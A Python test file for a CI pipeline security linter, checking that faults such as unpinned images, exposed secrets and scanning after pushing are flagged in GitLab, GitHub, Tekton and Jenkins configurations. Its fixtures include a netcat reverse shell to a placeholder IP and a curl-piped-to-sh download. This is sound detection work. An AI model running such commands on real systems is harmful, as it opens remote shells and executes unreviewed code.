"""The same fault in the same script is named on its line in all four systems."""

import pytest

from checks.pipeline.made import examine, lines

HEADS = {
    "gitlab": "a:\n  script:\n    - |\n",
    "github": "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: |\n",
    "tekton": "apiVersion: tekton.dev/v1\nkind: Task\nmetadata: {name: a}\nspec:\n  steps:\n    - name: a\n      script: |\n",
    "jenkins": "pipeline {\n  agent any\n  stages {\n    stage('a') {\n      steps {\n        sh '''\n",
}
TAILS = {"jenkins": "        '''\n      }\n    }\n  }\n}\n"}
DIGEST = "sha256:" + "0" * 64


def wrapped(system: str, script: tuple[str, ...]) -> tuple[str, int]:
    """A pipeline of one script, and the line of the script's first one."""
    head = HEADS[system]
    return head + "".join(f"          {row}\n" for row in script) + TAILS.get(system, ""), head.count("\n") + 1


FAULTS = {
    "gate-without-exit-code": (("make", "trivy image r.example.com/app:1"), 1),
    "gate-exit-code-lost": (("trivy image --exit-code 1 app || true", "make"), 0),
    "pushed-before-scan": (("docker push r.example.com/app:1", "trivy image --exit-code 1 r.example.com/app:1"), 0),
    "signed-before-push": (("cosign sign --yes r.example.com/app:1", "docker push r.example.com/app:1"), 0),
    "signed-by-tag": (("docker push a/b:1", "cosign sign --yes a/b:1"), 1),
    "deployed-by-tag": (("make", "kubectl set image deployment/a a=a/b:1"), 1),
    "deployed-before-scan": (("kubectl set image deployment/a a=a/b:1", "trivy image --exit-code 1 a/b:1"), 0),
    "secret-on-command-line": (("# login", 'docker login -u "$U" -p "$P" r.example.com'), 1),
    "latest-image": (("docker run --rm aquasec/trivy:latest --version",), 0),
    "unpinned-image": (("docker run --rm aquasec/trivy:0.58.1 --version",), 0),
    "docker-in-docker": (("make", "docker run --privileged tonistiigi/binfmt:1 --install all"), 1),
    "removed-command": (("docker scan app",), 0),
    "key-in-workspace": ((f"cosign sign --key cosign.key a/b@{DIGEST}",), 0),
    "verification-switched-off": (("cosign verify --insecure-ignore-tlog --key k.pub a/b",), 0),
    "certificates-unchecked": (("make", "", "curl -k https://example.com/x"), 2),
    "downloads-run-unseen": (("curl -sSfL https://example.com/x \\", "  | sh"), 1),
    "reverse-shell": (("nc -e /bin/sh 192.0.2.1 4444",), 0),
    "broken-scan-is-clean": (("set +o pipefail", "n=$(trivy image -f json app | jq length)", "test $n = 0"), 1),
}
SOUND = (
    "set -euo pipefail",
    'echo "$P" | docker login -u "$U" --password-stdin r.example.com',
    "docker build -t r.example.com/app:1 .",
    "trivy image --exit-code 1 --severity HIGH,CRITICAL r.example.com/app:1 | tee scan.txt",
    "docker push r.example.com/app:1",
    "DIGEST=$(crane digest r.example.com/app:1)",
    'cosign sign --yes "r.example.com/app@$DIGEST"',
    'cosign verify --key env://PUBLIC_KEY "r.example.com/app@$DIGEST"',
    'kubectl set image deployment/a "a=r.example.com/app@$DIGEST"',
)


@pytest.mark.parametrize("system", HEADS)
@pytest.mark.parametrize("rule", FAULTS)
def test_a_fault_is_named_in_every_system(system: str, rule: str) -> None:
    script, at = FAULTS[rule]
    text, first = wrapped(system, script)
    assert lines(text, rule) == [first + at]


@pytest.mark.parametrize("system", HEADS)
def test_a_sound_script_has_none(system: str) -> None:
    text, _ = wrapped(system, SOUND)
    assert [(each.id, each.location.line) for each in examine(text).findings] == []


EXCUSED = {
    "gitlab": ("a:\n  allow_failure: true\n  script:\n    - trivy image --exit-code 1 a\n", 2),
    "github": (
        "on: push\njobs:\n  a:\n    runs-on: x\n    continue-on-error: true\n    steps:\n      - run: trivy image --exit-code 1 a\n",
        5,
    ),
    "tekton": (
        "apiVersion: tekton.dev/v1beta1\nkind: Task\nspec:\n  steps:\n    - onError: continue\n      script: trivy image --exit-code 1 a\n",
        5,
    ),
    "jenkins": (
        "pipeline { stages { stage('a') { steps {\n  warnError('x') {\n    sh 'trivy image --exit-code 1 a'\n  }\n} } } }\n",
        2,
    ),
}


@pytest.mark.parametrize("system", EXCUSED)
def test_a_gate_that_may_fail_is_named_in_every_system(system: str) -> None:
    text, line = EXCUSED[system]
    assert lines(text, "gate-may-fail") == [line]


ORDERS = {
    "gitlab": "stages: [one, two]\na:\n  stage: one\n  script: ['{0}']\nb:\n  stage: two\n  script: ['{1}']\n",
    "github": "on: push\njobs:\n  a:\n    runs-on: x\n    steps: [{{run: '{0}'}}]\n  b:\n    needs: [a]\n    runs-on: x\n    steps: [{{run: '{1}'}}]\n",
    "tekton": "apiVersion: tekton.dev/v1\nkind: Pipeline\nspec:\n  tasks:\n    - name: a\n      taskSpec: {{steps: [{{script: '{0}'}}]}}\n"
    "    - name: b\n      runAfter: [a]\n      taskSpec: {{steps: [{{script: '{1}'}}]}}\n",
    "jenkins": "pipeline {{ stages {{\n  stage(\"a\") {{ steps {{ sh '{0}' }} }}\n  stage(\"b\") {{ steps {{ sh '{1}' }} }}\n}} }}\n",
}


@pytest.mark.parametrize("system", ORDERS)
def test_order_is_known_between_jobs(system: str) -> None:
    push, scan = "docker push r.example.com/app:1", "trivy image --exit-code 1 r.example.com/app:1"
    assert len(lines(ORDERS[system].format(push, scan), "pushed-before-scan")) == 1
    assert lines(ORDERS[system].format(scan, push), "pushed-before-scan") == []
    assert len(lines(ORDERS[system].format("cosign sign --yes r.example.com/app:1", push), "signed-before-push")) == 1


@pytest.mark.parametrize("system", ["gitlab", "github", "tekton"])
def test_jobs_that_share_no_engine_need_a_push(system: str) -> None:
    build, scan = "docker build -t r.example.com/app:1 .", "trivy image --exit-code 1 r.example.com/app:1"
    assert len(lines(ORDERS[system].format(build, scan), "image-not-there")) == 1


@pytest.mark.parametrize("version", ["v1", "v1beta1"])
@pytest.mark.parametrize("kind, key", [("PipelineRun", "pipelineSpec"), ("TaskRun", "taskSpec")])
def test_runs_and_lists_of_tekton_are_read(version: str, kind: str, key: str) -> None:
    steps = "[{image: 'a/b', script: make}]"
    spec = f"{{tasks: [{{name: a, taskSpec: {{steps: {steps}}}}}]}}" if kind == "PipelineRun" else f"{{steps: {steps}}}"
    one = f"apiVersion: tekton.dev/{version}\nkind: {kind}\nmetadata: {{name: x}}\nspec:\n  {key}: {spec}\n"
    assert lines(one, "latest-image") == [5]
    listed = "apiVersion: v1\nkind: List\nitems:\n" + "".join(
        ("  - " if at == 0 else "    ") + row + "\n" for at, row in enumerate(one.splitlines())
    )
    assert lines(listed, "latest-image") == [8]


def test_files_of_other_systems_are_left_alone() -> None:
    from checks.pipeline.made import AT
    from pratique.checks import pipeline
    from pratique.checks.files import SourceFile

    for name, text in (
        ("config.yml", "version: 2.1\njobs:\n  a:\n    steps:\n      - run: make\n"),
        ("azure-pipelines.yml", "trigger: [main]\nsteps:\n  - script: make\n"),
        ("play.yml", "- hosts: all\n  tasks:\n    - name: x\n      script: a.sh\n      tags: [b]\n"),
        ("compose.yaml", "services:\n  a:\n    image: b\n"),
        ("pod.yaml", "apiVersion: v1\nkind: Pod\n"),
        ("action.yml", "steps: []\n"),
        ("x.groovy", "class X {}\n"),
        ("notes.md", "pipeline {\n"),
    ):
        assert not pipeline.recognises(SourceFile(name, text.encode(), AT)), name
